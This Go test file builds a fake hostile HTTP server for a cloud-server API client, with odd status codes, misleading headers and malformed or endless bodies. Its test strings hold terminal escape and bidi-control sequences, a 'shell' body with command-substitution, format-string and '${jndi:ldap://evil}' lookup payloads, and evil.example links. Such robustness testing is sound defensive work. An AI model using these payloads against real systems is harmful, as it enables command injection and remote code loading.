package cloudserver_test

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
)

// way is one way to answer a request.
type way struct {
	name   string
	status int
	header map[string]string
	body   func() io.Reader // a new one for each answer
}

// hostileWays returns the statuses that matter most with every short body, every
// other status with a few of them, and two with each long one.
func hostileWays() []way {
	matter := []int{200, 400, 500}
	others := []int{
		101, 103, 201, 202, 203, 301, 401, 404, 204, 206, 299, 300, 302, 304, 307, 308, 402, 403, 405, 407, 408, 409, 410, 418, 422,
		429, 451, 499, 501, 502, 503, 504, 520, 599, 600, 999,
	}
	var ways []way
	for name, body := range shortBodies() {
		statuses := slices.Clone(matter)
		for i := range 4 {
			statuses = append(statuses, others[(4*len(ways)+i)%len(others)])
		}
		for _, status := range statuses {
			ways = append(ways, way{name, status, hostileHeader(len(ways)), func() io.Reader { return strings.NewReader(body) }})
		}
	}
	for _, status := range []int{200, 400} {
		for name, body := range longBodies() {
			ways = append(ways, way{name, status, hostileHeader(len(ways)), body})
		}
	}
	return ways
}

// hostileHeader returns headers that steer a client or a terminal, a different
// set for each number.
func hostileHeader(number int) map[string]string {
	sets := []map[string]string{
		{},
		{"Content-Type": "application/json"},
		{"Content-Type": "text/html; charset=\x1b[2J"},
		{"Content-Type": "application/vnd.example.virtual-machine+json", "Retry-After": "99999999999"},
		{"Location": "https://evil\u202e.example/" + hostileToken, "Retry-After": "-5"},
		{"Location": "/" + hostileToken + "/\x1b[2J", "Set-Cookie": hostileToken},
		{"Location": "http://service.invalid/base", "Retry-After": "Fri, 31 Dec 9999 23:59:59 GMT"},
		{"Content-Length": "-1", "WWW-Authenticate": "Basic realm=" + hostileToken, "Content-Encoding": "br"},
	}
	return sets[number%len(sets)]
}

const (
	echoed = hostilePassword + " " + hostileToken + " " + hostileRoot + " " + hostileScript + " " + hostileSession
	steers = "\x1b]0;pwned\x07\x1b[2J\u009b31m\u202eevil\u2066\u200f\r\n\x00\x7f"
)

func shortBodies() map[string]string {
	quoted := fmt.Sprintf("%q", echoed)
	return map[string]string{
		"nothing":            "",
		"whitespace":         " \n\t ",
		"empty object":       `{}`,
		"null":               `null`,
		"empty array":        `[]`,
		"array of nulls":     `[null,null]`,
		"array of arrays":    `[[],[[]],{}]`,
		"number":             `-1e999`,
		"text":               "not today",
		"echo":               echoed,
		"echo, HTML":         "<html><title>" + echoed + "</title>" + steers + "</html>",
		"echo, JSON":         `{"error":` + quoted + `,"root_password":` + quoted + `,"chpasswd":"root:` + `root \"zqmarker3\" & <w>"}`,
		"echo, keys":         `{` + quoted + `:["is bad"],"name":{` + quoted + `:["is bad"]},"zqmarker2-token":[{}]}`,
		"echo, token in id":  `{"id":"` + hostileToken + `","name":"` + hostileToken + `","virtual_machine":{"id":9,"name":"` + hostileToken + `"}}`,
		"steers":             steers,
		"steers, JSON":       `{"\u001b[2J":["\u001b]0;x\u0007\u009b\u202e"],"name":"\u001b[2J\u202e","id":7,"hostname":"\u009b31m"}`,
		"steers, raw JSON":   "{\"id\":7,\"name\":\"\u009b31m\u202e\",\"\u2066\":[\"\u202e\"]}",
		"not UTF-8":          "\xff\xfe{\"id\":7}\x80",
		"byte order mark":    "\ufeff{\"id\":7}",
		"cut":                `{"id":7,"name":"we`,
		"another":            `{"id":99,"name":"other","virtual_machine":{"id":99,"name":"other"}}`,
		"others":             `[{"id":99,"name":"other"},{"id":98,"name":"4"}]`,
		"id twice":           `{"id":7,"id":99}`,
		"negative":           `{"id":-7,"size":-9223372036854775808}`,
		"large numbers":      `{"id":1e400,"cores":99999999999999999999,"memory":0.1}`,
		"odd shapes":         `{"id":{"id":7},"name":[7],"discs":{"a":1},"network_interfaces":"x","virtual_machine":[]}`,
		"prototype":          `{"__proto__":{"id":7},"constructor":{"id":7}}`,
		"problems, odd":      `{"discs":[[[["deep"]]],{"size":{"x":{"y":["z"]}}},7],"ips":[null]}`,
		"taken":              `{"name":["has already been taken"]}`,
		"plain HTTP":         "Client sent an HTTP request to an HTTPS server.",
		"two factors":        "Missing 2FA " + steers,
		"shell":              "$(reboot) `reboot` %s%n ${jndi:ldap://evil}",
		"markdown and links": "[click](https://evil.example) \x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
	}
}

// longBodies are made while they are read.
func longBodies() map[string]func() io.Reader {
	times := func(before, element string, size int, after string) func() io.Reader {
		return func() io.Reader {
			return io.MultiReader(strings.NewReader(before), io.LimitReader(&repeated{element: []byte(element)}, int64(size/len(element)*len(element))), strings.NewReader(after))
		}
	}
	return map[string]func() io.Reader{
		"endless spaces":    func() io.Reader { return &repeated{element: []byte(" ")} },
		"deep arrays":       times("", "[", 1<<20, ""),
		"deep objects":      times("", `{"errors":`, 1<<16, ""),
		"many numbers":      times("[", "1,", 4<<20, "1]"),
		"many objects":      times("[", "{},", 2<<20, "{}]"),
		"many problems":     times(`{"name":[`, `"bad",`, 60<<10, `"bad"]}`),
		"many members":      times(`{`, `"k":"v",`, 1<<20, `"id":7}`),
		"one long name":     times(`{"id":7,"name":"`, "x", 1<<20, `"}`),
		"unfinished string": times(`"`, `\\`, 1<<20, ""),
		"many tags":         times("<html>", "<script", 1<<16, ""),
		"secret at the cut": times("", " ", 64<<10-10, hostileToken),
	}
}

// repeated is an endless body.
type repeated struct {
	element []byte
	rest    []byte
}

func (r *repeated) Read(buffer []byte) (int, error) {
	for n := 0; n < len(buffer); {
		if len(r.rest) == 0 {
			if len(r.element) < 64 {
				r.element = bytes.Repeat(r.element, 64)
			}
			r.rest = r.element
		}
		copied := copy(buffer[n:], r.rest)
		n, r.rest = n+copied, r.rest[copied:]
	}
	return len(buffer), nil
}

// answer plays the way.
func (w way) answer(request *http.Request) (*http.Response, error) {
	if request.Body != nil {
		if _, err := io.Copy(io.Discard, request.Body); err != nil {
			return nil, err
		}
	}
	written(request)
	response := &http.Response{StatusCode: w.status, ProtoMajor: 1, ProtoMinor: 1, Header: http.Header{}, Body: io.NopCloser(w.body()), ContentLength: -1, Request: request}
	for name, value := range w.header {
		response.Header.Set(name, value)
	}
	return response, nil
}

// RoundTrip implements http.RoundTripper.
func (w way) RoundTrip(request *http.Request) (*http.Response, error) { return w.answer(request) }
